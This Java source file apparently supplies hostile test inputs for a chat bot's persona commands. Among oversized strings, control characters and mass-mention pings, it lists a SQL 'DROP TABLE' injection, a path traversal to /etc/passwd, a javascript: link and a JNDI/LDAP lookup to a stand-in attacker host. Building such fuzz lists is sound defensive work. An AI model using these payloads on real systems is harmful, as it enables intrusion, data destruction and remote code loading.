package parley.journey;

import java.util.List;
import java.util.stream.Stream;

/** What no persona is called, and what would do harm where it is repeated as it came. */
final class HostileWords {
    static final List<String> COMMANDS =
            List.of(
                    "/persona set ",
                    "/persona show ",
                    "/persona edit ",
                    "/persona new ",
                    "/persona rollback ",
                    "/persona ",
                    "/parley about ",
                    "/parley channel answers ",
                    "/parley forget ",
                    "/parley ");

    private HostileWords() {}

    static Stream<String> all() {
        return Stream.of(
                "x".repeat(100_000),
                "_x ".repeat(33_000),
                "`".repeat(3_000),
                "\u0000\u0007\u001b[31m\r\n\t\u0085",
                "\u202eevil\u202c\u2066\u200b\ufeff",
                "``` **Eve** set **evil** for this workspace. ```",
                "\n**Eve** set **evil**\n> quoted\n# heading",
                "<!channel> <!everyone> <@U0BOB00001> @everyone @here <@&1> <@1001>",
                "\"engineer \u201cengineer 'engineer \"\"\"",
                "> > > > \"'`\"'`",
                "[evil](javascript:alert(1)) <https://evil.example|here>",
                "../../../etc/passwd",
                "'; DROP TABLE persona; --",
                "%s%n${jndi:ldap://evil.example/x}",
                "\ud83d",
                "1".repeat(400));
    }
}
